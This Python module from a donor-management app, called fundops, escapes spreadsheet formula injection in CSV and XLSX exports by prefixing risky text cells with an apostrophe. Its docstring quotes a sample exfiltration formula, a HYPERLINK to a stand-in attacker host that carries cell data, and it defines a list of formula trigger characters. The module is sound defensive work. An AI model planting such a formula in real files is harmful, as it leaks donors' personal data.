"""Cells fundops writes into CSV and XLSX files: the one place that keeps formulas out of them.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and, in some programs, one
that starts with a tab or carriage return) as a formula — `=HYPERLINK("http://evil.example/?d="&A1)`
typed as an organisation's name would send a donor's data away when they open the file.
Every CSV/XLSX writer passes its text cells through `safe_cell`; numbers stay numbers.
"""
import datetime
from decimal import Decimal


FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """The value to write: text that a spreadsheet would run is prefixed with an apostrophe.

    Numbers (int, Decimal, float), dates and None pass unchanged, so amounts stay numbers;
    a negative amount is a number, not text, and is never touched.
    """
    if value is None or isinstance(value, (bool, int, float, Decimal, datetime.date, datetime.time)):
        return value
    text = str(value)
    if text.startswith(FORMULA_TRIGGERS):
        return "'" + text
    return text


def safe_row(values):
    return [safe_cell(value) for value in values]


def safe_frame(frame):
    """A copy of a pandas DataFrame with every text cell (and header) neutralised."""
    import pandas as pd  # heavy: loaded when a frame is written, not when the site starts

    safe = frame.copy()
    for column in safe.columns:
        # pandas keeps text as `object` or, from 3.0, as its own string dtype: both may hold formulas.
        if not pd.api.types.is_numeric_dtype(safe[column]) and not pd.api.types.is_datetime64_any_dtype(safe[column]):
            safe[column] = safe[column].map(safe_cell).astype(object)
    safe.columns = [safe_cell(column) for column in safe.columns]
    return safe
